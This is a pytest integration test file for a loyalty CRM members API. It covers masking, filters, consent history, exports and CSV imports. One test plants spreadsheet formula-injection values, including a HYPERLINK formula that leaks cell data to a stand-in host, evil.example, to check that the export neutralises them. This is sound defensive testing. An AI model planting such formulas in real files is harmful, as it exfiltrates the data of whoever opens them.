"""Members (CRM) through the API, two merchants: masked lists and filters, profile and consent history,
member detail after real sales, the logged full export and who may run it, and CSV imports
(all-or-nothing, row-level report, progress, idempotent re-run)."""

from __future__ import annotations

import asyncio
import csv
import io
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from lianka.platform.db import Database
from lianka.tenants.domain.programme import PointsConfig, Programme, StoredValueConfig, StoredValuePlan, Tier
from lianka.tenants.services import member_imports
from lianka.tenants.services.programme import set_programme

pytestmark = pytest.mark.integration
PROGRAMME = Programme(
    points=PointsConfig(),
    tiers=[Tier(code="regular", name="普通", rank=0), Tier(code="silver", name="银卡", rank=1, threshold=50_000)],
    stored_value=StoredValueConfig(plans=[StoredValuePlan(code="500", name="储值500", pay=50_000, get=55_000)]),
)


@pytest.fixture
async def shop(db: Database, tenant_factory, auth_kit, staff_token):
    tenant = await tenant_factory("会员店")
    branch = await auth_kit.branch(tenant, "SH01")
    async with db.uow(tenant) as uow:
        await set_programme(uow, PROGRAMME, effective_from=datetime(2026, 1, 1, tzinfo=UTC))
        await uow.commit()
    pos = await auth_kit.pos(tenant, ["pos"], branch=branch)
    owner = await staff_token(tenant, "owner")
    return tenant, branch, pos.headers, owner.headers


async def _sale(client, pos, body):
    r = await client.post("/api/v1/pos/sales", json=body, headers={**pos, "Idempotency-Key": uuid.uuid4().hex})
    assert r.status_code == 201, r.text
    return r.json()


async def test_list_masks_phones_and_filters(client, shop, member_factory, tenant_factory) -> None:
    tenant, _, _, owner = shop
    a = await member_factory(tenant, "+8613911112222")
    b = await member_factory(tenant, "+8613933334444")
    await member_factory(await tenant_factory("别家"), "+8613955556666")  # another merchant's member
    await client.patch(f"/api/v1/members/{a}/profile", json={"name": "张伟", "tags": ["vip"]}, headers=owner)
    r = await client.get("/api/v1/members", headers=owner)
    assert r.status_code == 200
    page = r.json()
    assert page["total"] == 2
    phones = {i["phone"] for i in page["items"]}
    assert phones == {"+86 139****2222", "+86 139****4444"}
    assert all(i["stage"] == "new" for i in page["items"])
    assert (await client.get("/api/v1/members?tag=vip", headers=owner)).json()["total"] == 1
    assert (await client.get("/api/v1/members?q=张", headers=owner)).json()["items"][0]["member_id"] == str(a)
    assert (await client.get("/api/v1/members?q=4444", headers=owner)).json()["items"][0]["member_id"] == str(b)
    assert (await client.get("/api/v1/members?stage=dormant", headers=owner)).json()["total"] == 0
    r = await client.get("/api/v1/members?stage=sleepy", headers=owner)
    assert r.status_code == 400
    r = await client.get("/api/v1/members?limit=100000", headers=owner)
    assert r.status_code == 400


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("offset=10000000000000000000", "offset"),
        ("offset=1000000001", "offset"),
        ("offset=-1", "offset"),
        ("limit=0", "limit"),
        ("limit=201", "limit"),
        ("limit=99999999999999999999999", "limit"),
    ],
)
async def test_paging_out_of_range_is_a_400(client, shop, query: str, field: str) -> None:
    _, _, _, owner = shop
    r = await client.get(f"/api/v1/members?{query}", headers=owner)
    assert r.status_code == 400, r.text
    assert (r.json()["type"].split("/")[-1], r.json()["field"]) == ("validation-failed", field)
    assert (await client.get("/api/v1/members?offset=1000000000&limit=200", headers=owner)).status_code == 200


async def test_profile_and_consent_history(client, shop, member_factory, tenant_factory, staff_token) -> None:
    tenant, _, _, owner = shop
    m = await member_factory(tenant)
    r = await client.patch(
        f"/api/v1/members/{m}/profile",
        headers=owner,
        json={
            "name": "王芳",
            "gender": "female",
            "birthday": "1990-05-01",
            "email": "w@example.com",
            "preferences": {"milk": "oat"},
        },
    )
    assert r.status_code == 200, r.text
    assert r.json()["birthday"] == "1990-05-01" and r.json()["preferences"] == {"milk": "oat"}
    r = await client.patch(f"/api/v1/members/{m}/profile", json={"gender": "robot"}, headers=owner)
    assert r.status_code == 400
    assert (
        await client.patch(f"/api/v1/members/{m}/profile", json={"birthday": "2999-01-01"}, headers=owner)
    ).status_code == 400
    for granted in (True, False):
        r = await client.put(f"/api/v1/members/{m}/consent/sms", json={"granted": granted}, headers=owner)
        assert r.status_code == 200
    sms = r.json()["sms"]
    assert sms["granted"] is False and [h["granted"] for h in sms["history"]] == [True, False]
    assert all(h["at"] for h in sms["history"])
    assert (
        await client.put(f"/api/v1/members/{m}/consent/fax", json={"granted": True}, headers=owner)
    ).status_code == 400
    other = await staff_token(await tenant_factory("别家"), "owner")
    r = await client.patch(f"/api/v1/members/{m}/profile", json={"name": "x"}, headers=other.headers)
    assert r.status_code == 404
    analyst = await staff_token(tenant, "analyst")
    r = await client.patch(f"/api/v1/members/{m}/profile", json={"name": "x"}, headers=analyst.headers)
    assert r.status_code == 403
    assert (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()["name"] == "王芳"


async def test_the_join_branch_is_set_at_enrolment_and_never_moves(client, shop, auth_kit, db: Database) -> None:
    tenant, sh01, _, owner = shop
    sh02 = await auth_kit.branch(tenant, "SH02")
    at_sh02 = (await auth_kit.pos(tenant, ["pos"], branch=sh02)).headers
    r = await client.post("/api/v1/members", json={"phone": "13912345678", "branch_id": str(sh01)}, headers=owner)
    assert r.status_code == 201, r.text
    m = r.json()["member_id"]

    async def joined_at_sh01() -> None:
        profile = (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()
        assert profile["join_branch_id"] == str(sh01)
        detail = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
        assert detail["profile"]["join_branch_id"] == str(sh01)
        listed = {
            b: [
                i["member_id"]
                for i in (await client.get(f"/api/v1/members?branch_id={b}", headers=owner)).json()["items"]
            ]
            for b in (sh01, sh02)
        }
        assert listed == {sh01: [m], sh02: []}

    await _sale(client, at_sh02, {"amount": 5_000, "member_id": m})  # the first purchase, at another branch
    await joined_at_sh01()
    # importing the person again with another branch does not move them either
    r = await client.post(
        "/api/v1/members/imports", json={"csv": "phone,name,branch\n13912345678,王五,SH02\n"}, headers=owner
    )
    assert (await member_imports.run(db, tenant, uuid.UUID(r.json()["id"])))["processed"] == 1
    await joined_at_sh01()
    # staff cannot move it by hand; sending the value it has (a profile sent back whole) is harmless
    r = await client.patch(f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh02)}, headers=owner)
    assert (r.status_code, r.json()["field"]) == (400, "join_branch_id")
    r = await client.patch(
        f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh01), "name": "王五"}, headers=owner
    )
    assert r.status_code == 200, r.text
    await joined_at_sh01()
    async with db.uow(tenant) as uow:  # the profile's own copy agrees
        assert await uow.session.scalar(text("SELECT join_branch_id FROM member_profiles")) == sh01


async def test_a_member_who_joined_online_has_no_join_branch_after_buying(client, shop, member_factory) -> None:
    tenant, sh01, pos, owner = shop
    m = str(await member_factory(tenant))  # enrolled with no branch (the portal, an online form)
    await _sale(client, pos, {"amount": 5_000, "member_id": m})
    assert (await client.get(f"/api/v1/members/{m}/profile", headers=owner)).json()["join_branch_id"] is None
    assert (await client.get(f"/api/v1/members?branch_id={sh01}", headers=owner)).json()["total"] == 0


async def test_detail_after_sales_shows_balances_history_and_debt(client, shop, member_factory) -> None:
    tenant, _, pos, owner = shop
    m = str(await member_factory(tenant))
    r = await client.post(
        "/api/v1/pos/top-ups",
        json={"member_id": m, "plan": "500"},
        headers={**pos, "Idempotency-Key": uuid.uuid4().hex},
    )
    assert r.status_code == 201
    earn = await _sale(
        client, pos, {"amount": 60_000, "member_id": m, "lines": [{"sku": "tea", "qty": 2, "unit_price": 30_000}]}
    )
    await _sale(client, pos, {"amount": 1_200, "member_id": m, "points": 600})  # spend the points
    r = await client.post(
        f"/api/v1/pos/sales/{earn['sale_id']}/refunds", json={}, headers={**pos, "Idempotency-Key": uuid.uuid4().hex}
    )
    assert r.status_code == 201
    d = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
    assert d["balances"]["sv_principal"] == 50_000 and d["balances"]["sv_bonus"] == 5_000
    assert d["balances"]["points"] < 0 and d["balances"]["points_debt"] == -d["balances"]["points"]
    assert d["tier"]["code"] in ("regular", "silver")
    assert [p["lines"] for p in d["purchases"] if p["id"] == earn["sale_id"]] == [
        [{"sku": "tea", "qty": 2, "unit_price": 30_000}]
    ]
    assert {p["branch"] for p in d["purchases"]} == {"SH01"}
    kinds = [h["kind"] for h in d["points_history"]]
    assert "points_earned" in kinds and "points_redeemed" in kinds and "points_clawed_back" in kinds
    earned = [h for h in d["points_history"] if h["kind"] == "points_earned"]
    assert sorted(h["points"] for h in earned) == [6, 600]  # the second sale earned on its ¥6 paid in cash
    assert all(h["expires_at"] is not None for h in earned)
    assert d["stage"] == "new" and d["phone"].count("*") == 4


async def test_full_export_is_permissioned_and_logged(client, shop, member_factory, staff_token, auth_kit, db) -> None:
    tenant, branch, _, owner = shop
    await member_factory(tenant, "+8613977778888")
    for role in ("cashier", "manager", "analyst"):
        creds = await staff_token(tenant, role, branches=[branch] if role == "manager" else ())
        assert (await client.get("/api/v1/members/export.csv", headers=creds.headers)).status_code == 403
    admin_client = await auth_kit.pos(tenant, ["admin"])
    assert (await client.get("/api/v1/members/export.csv", headers=admin_client.headers)).status_code == 403
    async with db.uow(tenant) as uow:
        assert await uow.session.scalar(text("SELECT count(*) FROM export_log")) == 0
    r = await client.get("/api/v1/members/export.csv", headers=owner)
    assert r.status_code == 200
    body = r.content.decode("utf-8-sig")
    assert "+8613977778888" in body and body.splitlines()[0].startswith("card_number,phone")
    async with db.uow(tenant) as uow:
        log = (await uow.session.execute(text("SELECT actor, kind, row_count FROM export_log"))).one()
    assert log.kind == "members_full" and log.row_count == 1 and log.actor.startswith("staff:")


async def test_the_export_neutralises_spreadsheet_formulas(client, shop, member_factory) -> None:
    tenant, _, _, owner = shop
    m = await member_factory(tenant, "+8613966667777")
    hostile: dict[str, Any] = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "tags": ["@SUM(A1:A9)", "vip"],
        "email": "-2+3@example.com",
        "address": "+1 dial",
    }
    r = await client.patch(f"/api/v1/members/{m}/profile", json=hostile, headers=owner)
    assert r.status_code == 200, r.text
    r = await client.get("/api/v1/members/export.csv", headers=owner)
    assert r.status_code == 200
    header, row = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + hostile["name"]
    assert cells["tags"] == "'@SUM(A1:A9);vip"
    assert cells["email"] == "'-2+3@example.com"
    assert cells["phone"] == "'+8613966667777"  # shown as text, not as the number 8.61E+12
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert cells["cumulative_spend"] == "0"


CSV = """phone,name,gender,birthday,email,tags,branch,sms_consent,opening_points
13800001111,李娜,女,1988-02-03,li@example.com,vip;tea,SH01,是,300
13800002222,刘洋,male,,,,,no,0
not-a-phone,坏行,,,,,,,
13800003333,陈静,female,1995-13-01,,,,,
"""


async def test_import_all_or_nothing_and_skip_invalid(client, shop, db: Database) -> None:
    tenant, _, _, owner = shop
    r = await client.post("/api/v1/members/imports", json={"csv": CSV, "mode": "all_or_nothing"}, headers=owner)
    assert r.status_code == 202
    rejected = r.json()
    assert rejected["status"] == "failed" and {e["line"] for e in rejected["errors"]} == {4, 5}
    async with db.uow(tenant) as uow:
        assert await uow.session.scalar(text("SELECT count(*) FROM memberships")) == 0
    from lianka.platform.webhooks import sender
    from lianka.platform.webhooks import services as hooks

    await hooks.subscribe(db, tenant, "http://127.0.0.1:9/h", ["member.joined"], policy=sender.Policy(production=False))
    r = await client.post("/api/v1/members/imports", json={"csv": CSV, "mode": "skip_invalid"}, headers=owner)
    job = r.json()
    assert job["status"] == "queued" and job["total"] == 2
    done = await member_imports.run(db, tenant, uuid.UUID(job["id"]))  # what the worker does
    assert (done["status"], done["processed"], done["created_members"], done["percent"]) == ("done", 2, 2, 100)
    status = (await client.get(f"/api/v1/members/imports/{job['id']}", headers=owner)).json()
    assert status["status"] == "done" and len(status["errors"]) == 2
    # the same file again: nobody twice, no points twice
    again = (
        await client.post("/api/v1/members/imports", json={"csv": CSV, "mode": "skip_invalid"}, headers=owner)
    ).json()
    second = await member_imports.run(db, tenant, uuid.UUID(again["id"]))
    assert second["created_members"] == 0
    async with db.uow(tenant) as uow:  # member.joined once per member the import enrolled, not again
        joined = (await uow.session.execute(text("SELECT type, data FROM webhook_events"))).all()
        sh01 = await uow.session.scalar(text("SELECT id FROM branches WHERE code = 'SH01'"))
        people: dict[str, uuid.UUID] = dict((await uow.session.execute(text("SELECT phone, id FROM members"))).all())
    assert sorted((r.type, r.data["member_id"], r.data["branch_id"]) for r in joined) == sorted(
        [
            ("member.joined", str(people["+8613800001111"]), str(sh01)),
            ("member.joined", str(people["+8613800002222"]), None),
        ]
    )
    page = (await client.get("/api/v1/members?q=李娜", headers=owner)).json()
    assert page["total"] == 1
    li = page["items"][0]
    assert li["tags"] == ["tea", "vip"] or sorted(li["tags"]) == ["tea", "vip"]
    d = (await client.get(f"/api/v1/members/{li['member_id']}/detail", headers=owner)).json()
    assert d["balances"]["points"] == 300
    assert d["profile"]["consent"]["sms"]["granted"] is True
    bad = await client.post("/api/v1/members/imports", json={"csv": "name\nx\n"}, headers=owner)
    assert bad.status_code == 400
    cashier_like = await client.post("/api/v1/members/imports", json={"csv": CSV}, headers={})
    assert cashier_like.status_code == 401


async def test_nul_characters_and_bare_carriage_returns_in_an_import(client, shop, db: Database) -> None:
    tenant, _, _, owner = shop

    async def imports() -> int:
        async with db.uow(tenant) as uow:
            return int(await uow.session.scalar(text("SELECT count(*) FROM member_imports")) or 0)

    for content in ("phone,name\n13800001111,李\x00娜\n", "phone,name\r\n".encode("utf-16-le").decode()):
        r = await client.post("/api/v1/members/imports", json={"csv": content}, headers=owner)
        assert r.status_code == 400, r.text
        assert r.headers["content-type"].startswith("application/problem+json")
    assert await imports() == 0
    # a bare CR ends a line (old spreadsheet exports); inside a quoted name it is a row error
    content = 'phone,name\r13800001111,李娜\r13800002222,"刘\r洋"\r13800003333,陈静\r'
    r = await client.post("/api/v1/members/imports", json={"csv": content, "mode": "skip_invalid"}, headers=owner)
    assert r.status_code == 202, r.text
    job = r.json()
    assert (job["total"], [e["line"] for e in job["errors"]]) == (2, [3])
    assert (await member_imports.run(db, tenant, uuid.UUID(job["id"])))["created_members"] == 2
    names = {i["name"] for i in (await client.get("/api/v1/members", headers=owner)).json()["items"]}
    assert names == {"李娜", "陈静"}


async def test_the_import_command_reports_a_refused_file_and_writes_nothing(shop, db: Database, tmp_path) -> None:
    tenant, _, _, _ = shop
    async with db.uow(system=True) as uow:
        slug = await uow.session.scalar(text("SELECT slug FROM merchants WHERE id = :t"), {"t": tenant})
    lianka = Path(sys.executable).with_name("lianka")
    for name, content in (
        ("nul.csv", b"phone,name\n13800001111,a\x00b\n"),
        ("cr.csv", 'phone,name\r13800001111,王\r13800002222,"x\ry"\r[/red],z\r'.encode()),
    ):
        (tmp_path / name).write_bytes(content)
        proc = await asyncio.create_subprocess_exec(
            str(lianka),
            "members",
            "import",
            str(tmp_path / name),
            "--merchant",
            str(slug),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out = (await proc.communicate())[0].decode()
        assert "Traceback" not in out, out
        if name == "cr.csv":  # imported, with the second row reported (its text shown as is)
            assert proc.returncode == 0, out
            assert "1 new members" in out and "line 3: name: line breaks" in out and "'[/red]'" in out
        else:
            assert proc.returncode == 2, out
            assert "nothing imported" in out
    async with db.uow(tenant) as uow:
        assert await uow.session.scalar(text("SELECT count(*) FROM member_imports")) == 1
        assert await uow.session.scalar(text("SELECT count(*) FROM memberships")) == 1


async def test_import_resumes_after_a_crash(shop, db: Database) -> None:
    tenant, _, _, _ = shop
    rows = "\n".join(f"1370000{i:04d},会员{i}" for i in range(450))
    async with db.uow(tenant) as uow:
        job = await member_imports.create(uow, f"phone,name\n{rows}\n".encode(), mode="skip_invalid", actor="test")
        await uow.commit()
    seen: list[int] = []

    def crash_after_first_batch(done: int, total: int) -> None:
        seen.append(done)
        raise SystemExit("worker killed")

    with pytest.raises(SystemExit):
        await member_imports.run(db, tenant, job.id, progress=crash_after_first_batch)
    async with db.uow(tenant) as uow:
        half = await member_imports.get(uow, job.id)
        assert (half.status, half.processed) == ("running", member_imports.BATCH)
    done = await member_imports.run(db, tenant, job.id, progress=lambda d, t: seen.append(d))
    assert done["created_members"] == 450 and seen == [200, 400, 450]


async def test_manual_tier_is_a_floor_with_its_reason(client, shop, member_factory, staff_token, db) -> None:
    tenant, _, _, owner = shop
    m = await member_factory(tenant)
    r = await client.put(
        f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "门店邀请", "until": "2099-12-31"}, headers=owner
    )
    assert r.status_code == 200, r.text
    assert r.json() == {"tier": "silver", "floor": "silver", "floor_until": "2099-12-31"}
    history = (await client.get(f"/api/v1/members/{m}/tier-changes", headers=owner)).json()
    assert history[0]["new_tier"] == "silver" and history[0]["reason"] == "manual: 门店邀请"
    assert history[0]["actor"].startswith("staff:")
    # the retention review cannot take the member below the floor
    from lianka.tenants.services import maintenance

    await maintenance.review_tiers(db, tenant, datetime(2028, 1, 15, tzinfo=UTC))
    d = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
    assert d["tier"]["code"] == "silver"
    cashier = await staff_token(tenant, "cashier")
    r = await client.put(f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "x"}, headers=cashier.headers)
    assert r.status_code == 403
    for bad in (
        {"tier": "diamond", "reason": "x"},
        {"tier": "silver", "reason": " "},
        {"tier": "silver", "reason": "x", "until": "2001-01-01"},
    ):
        r = await client.put(f"/api/v1/members/{m}/tier", json=bad, headers=owner)
        assert r.status_code == 400, bad
